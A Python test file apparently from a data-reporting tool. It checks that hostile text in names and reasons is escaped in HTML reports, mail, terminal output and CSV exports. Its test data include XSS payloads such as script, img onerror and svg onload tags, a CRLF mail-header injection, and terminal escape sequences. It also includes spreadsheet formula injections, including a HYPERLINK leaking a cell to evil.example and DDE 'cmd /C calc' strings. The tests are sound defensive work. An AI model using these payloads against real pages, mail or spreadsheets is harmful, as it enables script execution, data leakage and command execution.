"""Rows 39 and 40: what stands in a name or a reason stays text, on the page, in the mail, at the terminal, in a CSV."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import pytest
from vru.contracts import load_contracts
from vru.disclosure.publish import publish
from vru.landing import Landing
from vru.reporting import write_report
from vru.reporting.mail import MailError, compose
from vru.reporting.outbox import Report
from vru.reporting.spreadsheet import cell
from vru.warehouse.engine import raw_connection
from vru.warehouse.server.embedded import Server

from tests.faults.test_command_line import Terminal
from tests.pages import Open
from tests.unit.reporting import made

VARIANTS = {
    39: ("script_tag", "img_onerror", "crlf_subject", "svg_payload", "template_braces"),
    40: ("equals", "plus", "at", "tab_equals", "minus_text"),
}
MARKUP = {
    "script_tag": "</td></title></style><script>window.caught = 1</script>",
    "img_onerror": "\"'><img src=https://evil.example/x onerror='window.caught = 1'>",
    "crlf_subject": "Quality\r\nBcc: everyone@evil.example\r\n\r\n<b id=caught>",
    "svg_payload": "<svg onload='window.caught = 1'><a href='javascript:window.caught = 1'>x</a></svg>",
    "template_braces": "{{ 7 * 191 }}{% for x in 'ab' %}${7 * 191}{% endfor %}",
}
FORMULAS = {
    "equals": "=HYPERLINK(\"https://evil.example/\"&A1,\"x\")",
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1,1)",
    "tab_equals": "\t=1+1",
    "minus_text": "-2+3+cmd|' /C calc'!A0",
}  # fmt: skip


def of_row(row: int) -> pytest.MarkDecorator:
    """Every variant of a row, called by it."""
    return pytest.mark.parametrize("variant", VARIANTS[row], ids=lambda variant: f"bi{row}_{variant}")


@pytest.fixture
def vru(
    cluster: Server, vru_home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Callable[..., tuple[str, str]]:
    """The `vru` command on a warehouse of this module."""
    return Terminal(vru_home, monkeypatch, capsys)


# Row 39: the page


@pytest.fixture(scope="module")
def report(cluster: Server, vru_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A report with all the markup at once, wherever words of others can stand."""
    landing, evil = Landing(vru_home / "landing"), " ".join(MARKUP.values())
    made.clear_published()
    made.make(landing)
    with raw_connection("migrator") as connection, connection.cursor() as cursor:
        for statement in (
            "update ops.feed set title = title || %s, publisher = publisher || %s",
            "update ops.batch set file_name = file_name || %s, reason = reason || %s where status = 'rejected'",
            "update ops.withheld_column set column_name = column_name || %s, reason = reason || %s",
            "update quarantine.row set reason = reason || %s, column_name = %s",
            "update ops.attempt set reason = reason || %s",
        ):
            cursor.execute(statement, [evil] * statement.count("%s"))
    publish(landing=landing, contracts=load_contracts())
    # after disclosure control, which shows nothing exactly of names that the file has not or under another licence
    with raw_connection("publisher") as connection, connection.cursor() as cursor:
        for statement in (
            "update publish.homicide_borough_period set area_name = area_name || %s, null_reason = null_reason || %s",
            "update publish.borough_boundary set area_name = area_name || %s",
            "update publish.provenance set licence = licence || %s",
        ):
            cursor.execute(statement, [evil] * statement.count("%s"))
    return write_report(
        "quality",
        month=date(2022, 5, 1),
        out_dir=tmp_path_factory.mktemp("report"),
        today=date(2022, 5, 20),
        profile="files",
    )


PLACES = {
    "a feed": "main tbody th .feed-name", "a file": "#refused ~ table td[data-label='File and period']",
    "a reason": "#refused ~ table td[data-label='Why']", "a column": "#refused ~ table td[data-label='What']",
    "a borough": "table.boroughs tbody th", "why there is no figure": "table.boroughs td.none",
    "what is missing": "#missing ~ ul li", "the description of the map": "svg.picture desc",
}  # fmt: skip
"""Where the markup must be found, as text."""


@of_row(39)
def test_markup_stays_text_on_the_page(variant: str, open_page: Open, report: Path) -> None:
    asked: list[str] = []
    complaints: list[str] = []
    page = open_page(report, 1280, asked, complaints)
    wanted = " ".join(MARKUP[variant].split())
    for place, selector in PLACES.items():
        texts = page.evaluate("s => [...document.querySelectorAll(s)].map(e => e.textContent)", selector)
        assert any(wanted in " ".join(text.split()) for text in texts), place
    assert page.evaluate("window.caught") is None
    assert asked == [report.as_uri()]
    assert complaints == [], "it is escaped, not only stopped by the policy"
    assert (
        page.evaluate("document.querySelectorAll('script, img, iframe, object, embed, base, form, #caught').length")
        == 0
    )
    assert page.evaluate("[...document.querySelectorAll('*')].flatMap(e => [...e.attributes]).filter(a => "
                         "a.name.startsWith('on') || /javascript:|evil/.test(a.value) && a.name !== 'aria-label').length"
                         ) == 0  # fmt: skip
    assert str(7 * 191) not in page.content()
    policy = page.evaluate("document.querySelector('meta[http-equiv=Content-Security-Policy]').content")
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert "unsafe" not in policy


# Row 39: the mail


class _Tags(HTMLParser):
    """The elements and attributes of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names |= {tag, *(name for name, _ in attrs)}


def written(folder: Path, title: str, words: str) -> Report:
    """A report of which the ledger says so much."""
    (folder / "quality-2022-05.html").write_bytes(b"<!DOCTYPE html>")
    statements = [{"question": words, "answer": words, "evidence": words}]
    summary = {"title": title, "is_synthetic": False, "statements": statements}
    sha256 = hashlib.sha256(b"<!DOCTYPE html>").hexdigest()
    return Report(1, "quality", date(2022, 5, 1), "quality-2022-05.html", sha256, summary)


@of_row(39)
def test_markup_stays_text_in_the_mail(variant: str, tmp_path: Path, open_page: Open) -> None:
    mail = compose(written(tmp_path, "Quality", MARKUP[variant]), tmp_path, "a@vru.example", "b@vru.example")
    assert _Tags(mail.html).names == _Tags(compose(written(tmp_path, "Quality", "plain"), tmp_path, "a@vru.example",
                                                   "b@vru.example").html).names  # fmt: skip
    (tmp_path / "mail.html").write_text(mail.html, encoding="utf-8")
    page = open_page(tmp_path / "mail.html", 1280)
    assert page.evaluate("window.caught") is None
    assert " ".join(MARKUP[variant].split()) in " ".join(str(page.evaluate("document.body.textContent")).split())


@pytest.mark.parametrize("ending", ["\r\n", "\n", "\r", "\x85", "\u2028", "\0", "\x0b"], ids=ascii)
@pytest.mark.parametrize("where", ["subject", "recipient", "sender"])
def test_bi39_crlf_subject__no_header_can_end_early(where: str, ending: str, tmp_path: Path) -> None:
    words = {"subject": "Quality", "recipient": "a@vru.example", "sender": "b@vru.example"}
    compose(written(tmp_path, words["subject"], ""), tmp_path, words["recipient"], words["sender"])
    words[where] += f"{ending}Bcc: everyone@evil.example"
    with pytest.raises(MailError, match=where) as error:
        compose(written(tmp_path, words["subject"], ""), tmp_path, words["recipient"], words["sender"])
    assert "evil" not in str(error.value)


# Row 39: the terminal

HOSTILE = {
    **MARKUP,
    "title_of_the_window": "a\x1b]0;caught\x07",
    "screen_cleared": "a\x1b[2J\x1b[1;1H\x9b2J",
    "line_forged": "a.csv\nmps_homicide_victims: all is well",
    "read_backwards": "a\u202evsc.exe",
    "markup_of_the_terminal": "[bold red]a[/] :warning: [link=https://evil.example]x[/link]",
}


@pytest.mark.parametrize("name", HOSTILE.values(), ids=HOSTILE)
def test_a_name_does_nothing_at_the_terminal(name: str, vru: Callable[..., tuple[str, str]], tmp_path: Path) -> None:
    """A rejected file is named on the line that says so, in the listings and in their JSON."""
    name = name.replace("/", "|") + ".csv"
    header = made.HEADER.strip().replace(
        "Sex", name.replace('"', "").replace("\r", "").replace("\n", "").replace(",", "")
    )
    (tmp_path / name).write_text(f"{header}\n1\n", encoding="utf-8")
    _, errors = vru("ingest", "mps_homicide_victims", "--file", tmp_path / name, expect=1)
    assert len(errors.splitlines()) == 1, "one file, one line"
    table, _ = vru("batches", "mps_homicide_victims", expect=0)
    listed, _ = vru("batches", "mps_homicide_victims", "--json", expect=0)
    for text in (errors, table, listed):
        assert not [c for c in text if not c.isprintable() and c != "\n"]
    assert json.loads(listed)[-1]["file_name"] == name, "what is kept is what came"
    shown = name.replace("\x1b", "\\u001b").replace("\r", "\\u000d").replace("\n", "\\u000a")
    assert shown.replace("\x07", "\\u0007").replace("\x9b", "\\u009b").replace("\u202e", "\\u202e") in errors


# Row 40: CSV

NUMBERS = ("-5", "-1.50", "0", "1e-7::float8", "-2147483649::bigint", "'-Infinity'::float8")


@of_row(40)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(
    variant: str, vru: Callable[..., tuple[str, str]]
) -> None:
    """As a cell and as a header; and numbers beside it, negative ones too, are what they were."""
    text = FORMULAS[variant]
    quoted, name = text.replace("'", "''"), text.replace('"', '""')
    query = f"select '{quoted}'::text as \"{name}\", ' ' || '{quoted}' as inside, {', '.join(NUMBERS)}, null, true"
    output, _ = vru("sql", "--csv", "-c", query.replace("%", "%%"), expect=0)
    header, row = csv.reader(io.StringIO(output, newline=""))
    # PostgreSQL cuts names at 63 bytes
    assert header[:2] == [f"'{text[:63]}", "inside"]
    assert row == [f"'{text}", f" {text}", "-5", "-1.50", "0", "1e-07", "-2147483649", "-inf", "", "t"]
    shown, _ = vru("sql", "-c", f"select '{quoted}'::text as words", expect=0)
    assert f"'{text.strip()[0]}" not in shown, "on the screen nothing runs, and nothing is added"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\0"], ids=ascii)
def test_every_start_of_a_formula_is_known(start: str) -> None:
    assert cell(f"{start}1") == f"'{start}1"
    assert cell(f"1{start}") == f"1{start}"


@pytest.mark.parametrize("number", [-5, -1.5, Decimal("-0.10"), 0, None], ids=str)
def test_a_number_stays_a_number(number: object) -> None:
    assert cell(number) is number


def test_the_help_says_so(vru: Callable[..., tuple[str, str]]) -> None:
    output, _ = vru("sql", "--help", expect=0)
    assert "= + - @" in " ".join(output.split())


def test_every_variant_has_its_words() -> None:
    assert (set(MARKUP), set(FORMULAS)) == (set(VARIANTS[39]), set(VARIANTS[40]))
